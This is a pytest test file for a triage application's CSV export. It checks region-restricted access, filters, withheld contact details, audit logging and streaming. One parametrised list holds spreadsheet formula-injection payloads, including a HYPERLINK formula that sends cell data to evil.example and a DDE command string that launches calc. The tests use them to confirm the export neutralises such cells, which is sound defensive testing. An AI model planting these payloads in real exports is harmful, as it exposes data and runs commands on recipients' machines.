"""The CSV export: what the queue shows, as a download. Only the reports the user may see, with
the queue's filters; streamed in batches; audited before it is sent; contact details only for
those allowed and only when asked; safe to open in a spreadsheet."""

import contextvars
import csv
import io
import logging
import re
from datetime import datetime, timedelta
from urllib.parse import parse_qsl

import pytest
from sqlalchemy import create_engine, select

from reporter.extensions import db
from reporter.models import AuditEvent, utcnow
from reporter.reference import get_reference
from reporter.services.casework import export
from reporter.services.casework.export import COLUMNS, CONTACT_COLUMNS, guard_cell
from reporter.services.casework.queue import QueueFilter
from tests.factories import make_report, make_user
from tests.triage.conftest import audit_rows, same_page, sign_in

CONTACT = {"name": "Sam Reporter", "phone": "07700 900123", "email": "sam@example.org"}


def ask(client, query: str = ""):
    """The export of `query`; a search (q) is posted, never put in the address."""
    args = dict(parse_qsl(query))
    if "q" in args:
        return client.post("/triage/export.csv", data=args)
    return client.get(f"/triage/export.csv?{query}")


def download(client, query: str = ""):
    response = ask(client, query)
    assert response.status_code == 200, response.status_code
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")  # so that Excel reads UTF-8
    return response, list(csv.DictReader(io.StringIO(text[1:])))


def exported(client, query: str = "") -> list[str]:
    return [row["reference"] for row in download(client, query)[1]]


def test_an_officers_export_holds_only_their_regions_reports(client):
    mine = make_report(region="east-midlands")
    make_report(region="london")
    make_report(region=None)
    sign_in(client, make_user(role="officer", regions=("east-midlands",)))
    assert exported(client, "status=any") == [mine.reference]
    # Asking for another region is refused, never answered with theirs or with everything.
    assert client.get("/triage/export.csv?region=london").status_code == 400


def test_an_officer_of_two_regions_exports_both_or_one(client):
    east = make_report(region="east-midlands")
    london = make_report(region="london")
    make_report(region="wales")
    sign_in(client, make_user(role="officer", regions=("east-midlands", "london")))
    assert set(exported(client)) == {east.reference, london.reference}
    assert exported(client, "region=london") == [london.reference]


@pytest.mark.parametrize("role", ["national", "admin"])
def test_national_staff_and_admins_export_every_region_and_the_national_queue(client, role):
    reports = [make_report(region=r) for r in ("wales", "london", None)]
    sign_in(client, make_user(role=role))
    assert set(exported(client)) == {r.reference for r in reports}
    assert exported(client, "region=national") == [reports[2].reference]


def test_the_queues_filters_apply_to_the_export(client):
    officer = make_user()
    now = utcnow()
    hotel = make_report(sector="hotel", signs=("room-paid-cash",), priority="high")
    rail = make_report(signs=("no-ticket",), assigned_to=officer, place="Behind the kiosk")
    old = make_report(created_at=now - timedelta(days=40))
    closed = make_report(status="closed")
    sign_in(client, officer)
    assert closed.reference not in exported(client)  # open reports, as the queue shows
    assert exported(client, "status=closed") == [closed.reference]
    assert exported(client, "priority=high") == [hotel.reference]
    assert exported(client, "sector=hotel") == [hotel.reference]
    assert exported(client, "sign=no-ticket") == [rail.reference]
    assert exported(client, "mine=y") == [rail.reference]
    assert exported(client, "q=kiosk") == [rail.reference]
    day = f"{now - timedelta(days=40):%Y-%m-%d}"
    assert exported(client, f"date_from={day}&date_to={day}") == [old.reference]
    # In the queue's order: most urgent first, then newest.
    assert exported(client)[0] == hotel.reference


def test_a_filter_in_error_refuses_the_export_rather_than_widen_it(client):
    make_report()
    sign_in(client, make_user())
    response = client.get("/triage/export.csv?date_from=yesterday")
    assert response.status_code == 400
    assert "text/html" in response.content_type
    assert audit_rows("reports_exported") == []


def test_each_column_holds_codes_identifiers_and_what_the_reporter_wrote(client):
    officer = make_user(email="officer@staff.example")
    report = make_report(
        sector="rail",
        signs=("travelling-alone", "no-ticket"),
        danger=True,
        priority="urgent",
        station="LEI",
        postcode="LE1 6RN",
        place="Platform 3, by the café",
        description="Two boys, about 14,\ntold where to go.",
        created_at=datetime(2026, 7, 1, 13, 5, 9, 123456),
        assigned_to=officer,
        authorities=("emergency-999", "btp-text-61016"),
        contact=CONTACT,
        consent="share",
    )
    sign_in(client, officer)
    _response, [row] = download(client)
    assert list(row) == list(COLUMNS)
    assert row == {
        "reference": report.reference,
        "created_at": "2026-07-01T13:05:09Z",
        "sector": "rail",
        "signs": "no-ticket;travelling-alone",
        "danger": "yes",
        "priority": "urgent",
        "status": "new",
        "region": "east-midlands",
        "region_source": "postcode",
        "station": "LEI",
        "postcode_district": "LE1",
        "seen_at": "",
        "assigned_to": "officer@staff.example",
        "authorities": "emergency-999;btp-text-61016",
        "description": "Two boys, about 14,\ntold where to go.",
        "place": "Platform 3, by the café",
    }


def test_contact_details_are_left_out_unless_asked_for(client):
    make_report(contact=CONTACT, consent="share")
    sign_in(client, make_user(role="admin"))
    response, [row] = download(client)
    assert not set(CONTACT_COLUMNS) & set(row)
    body = response.get_data(as_text=True)
    assert "Sam Reporter" not in body and "07700" not in body and "sam@example.org" not in body


@pytest.mark.parametrize("role", ["national", "admin"])
def test_admins_and_national_staff_get_contact_details_when_they_ask(client, role):
    make_report(contact=CONTACT, consent="share")
    make_report(consent="anonymous")
    sign_in(client, make_user(role=role))
    response, rows = download(client, "contact=1")
    assert list(rows[0]) == list(COLUMNS + CONTACT_COLUMNS)
    given = {
        (r["contact_name"], r["contact_phone"], r["contact_email"], r["consent"]) for r in rows
    }
    assert given == {
        ("Sam Reporter", "07700 900123", "sam@example.org", "share"),
        ("", "", "", "anonymous"),
    }
    assert "with-contact-details" in response.headers["Content-Disposition"]
    [row] = audit_rows("reports_exported")
    assert row.detail["contact"] is True


def test_an_officer_asking_for_contact_details_gets_the_same_404_as_a_page_not_theirs(client):
    make_report(contact=CONTACT, consent="share")
    sign_in(client, make_user(role="officer"))
    refused = client.get("/triage/export.csv?contact=1")
    missing = client.get("/triage/users")  # an admin page: it does not exist for officers
    assert refused.status_code == missing.status_code == 404
    assert same_page(refused) == same_page(missing)
    assert "Sam Reporter" not in refused.get_data(as_text=True)
    assert audit_rows("reports_exported") == []


def test_the_export_service_itself_refuses_contact_details_to_an_officer(app):
    officer = make_user(role="officer")
    with pytest.raises(PermissionError):
        export.start_export(officer, QueueFilter(), get_reference(), contact=True)
    assert audit_rows("reports_exported") == []


def test_the_queue_offers_contact_details_only_to_those_allowed(client):
    sign_in(client, make_user(role="officer"))
    page = client.get("/triage/").get_data(as_text=True)
    assert 'href="/triage/export.csv"' in page and "contact=1" not in page
    sign_in(client, make_user(role="national"))
    page = client.get("/triage/").get_data(as_text=True)
    assert 'href="/triage/export.csv?contact=1"' in page


PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_a_spreadsheet_would_run_is_neutralised_with_a_quote(client, payload):
    make_report(description=payload, place=payload, contact={"name": payload}, consent="share")
    sign_in(client, make_user(role="admin"))
    _response, [row] = download(client, "contact=1")
    for column in ("description", "place", "contact_name"):
        assert row[column] == "'" + payload, column


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+44 7700 900123", "'+44 7700 900123"),
        ("-", "'-"),
        ("@home", "'@home"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a = b", "a = b"),  # only the first character matters
        ("", ""),
        ("Platform 3", "Platform 3"),
    ],
)
def test_the_csv_guard(cell, shown):
    assert guard_cell(cell) == shown


def test_the_export_is_streamed_as_a_dated_attachment_never_cached(client):
    make_report()
    sign_in(client, make_user())
    response = client.get("/triage/export.csv")
    assert response.is_streamed
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    disposition = response.headers["Content-Disposition"]
    assert re.fullmatch(
        r'attachment; filename="lookcloser-reports-\d{4}-\d{2}-\d{2}\.csv"', disposition
    )
    assert response.headers["Cache-Control"] == "no-store"
    assert "Content-Length" not in response.headers


def test_rows_are_fetched_and_sent_a_batch_at_a_time(client, monkeypatch):
    monkeypatch.setattr(export, "BATCH_SIZE", 2)
    for _ in range(5):
        make_report()
    sign_in(client, make_user())
    response = client.get("/triage/export.csv")
    chunks = [chunk.decode() for chunk in response.response]
    rows_per_chunk = [len(list(csv.reader(io.StringIO(c.lstrip("\ufeff"))))) for c in chunks]
    assert rows_per_chunk == [1, 2, 2, 1]  # the header, then three batches


def test_every_export_is_audited_and_committed_before_a_byte_is_sent(client, database_uri):
    officer = make_user(email="o@staff.example")
    make_report(description="Secret words", place="A secret place")
    make_report(description="More", priority="high")
    sign_in(client, officer)
    response = ask(client, "status=any&priority=high&q=secret")
    # Read from another connection, before the body is read: the row is already committed.
    engine = create_engine(database_uri)
    with engine.connect() as other:
        found = other.execute(
            select(AuditEvent.action, AuditEvent.actor_email, AuditEvent.detail).where(
                AuditEvent.action == "reports_exported"
            )
        ).all()
    engine.dispose()
    assert found == [
        (
            "reports_exported",
            "o@staff.example",
            {"status": "any", "priority": "high", "search": True, "contact": False, "rows": 0},
        )
    ]
    response.get_data()
    [row] = audit_rows("reports_exported")
    assert row.actor_id == officer.id and row.created_at is not None and row.report_id is None
    assert "ecret" not in str(row.detail)  # the search words are never recorded


def test_the_audit_row_counts_the_rows_exported(client):
    for _ in range(3):
        make_report()
    make_report(region="london")
    sign_in(client, make_user())
    _response, rows = download(client)
    [row] = audit_rows("reports_exported")
    assert row.detail["rows"] == len(rows) == 3


def test_the_export_needs_nothing_from_the_views_session(app, client):
    """Under a server, the view's app context (and its database session) has ended before the
    body is generated: the rows must come from a session of their own."""
    report = make_report(signs=("no-ticket",), assigned_to=make_user(email="a@staff.example"))
    sign_in(client, make_user())

    def as_a_server_would():
        response = client.get("/triage/export.csv")
        return response.get_data(as_text=True)

    body = contextvars.Context().run(as_a_server_would)  # no app context of the test's
    [row] = list(csv.DictReader(io.StringIO(body[1:])))
    assert (row["reference"], row["signs"]) == (report.reference, "no-ticket")
    assert row["assigned_to"] == "a@staff.example"


def test_a_field_that_cannot_be_decrypted_is_marked_and_the_export_goes_on(
    client, caplog, monkeypatch
):
    # Alembic's logging setup, run by the schema fixture, disables the loggers that exist then.
    monkeypatch.setattr(export.log, "disabled", False)
    broken = make_report(description="Unreadable words")
    fine = make_report(description="Readable")
    # A ciphertext bound to another report does not open here (as after losing a key).
    broken.description_enc = fine.description_enc
    db.session.commit()
    sign_in(client, make_user())
    with caplog.at_level(logging.ERROR):
        _response, rows = download(client)
    by_reference = {row["reference"]: row["description"] for row in rows}
    assert by_reference == {
        broken.reference: "(could not be decrypted)",
        fine.reference: "Readable",
    }
    assert broken.reference in caplog.text
    assert "Readable" not in caplog.text and "Unreadable" not in caplog.text


def test_the_queue_links_to_the_export_with_its_filters_but_not_its_page(client):
    for _ in range(3):
        make_report(priority="high")
    sign_in(client, make_user())
    page = client.get("/triage/?priority=high&status=any&after=2.20260101000000000000.1")
    link = re.search(
        r'href="(/triage/export\.csv[^"]*)"[^>]*>Export CSV<', page.get_data(as_text=True)
    )
    assert link.group(1) == "/triage/export.csv?status=any&amp;priority=high"
    # A queue whose filters are in error offers no export.
    page = client.get("/triage/?date_from=yesterday").get_data(as_text=True)
    assert "/triage/export.csv" not in page
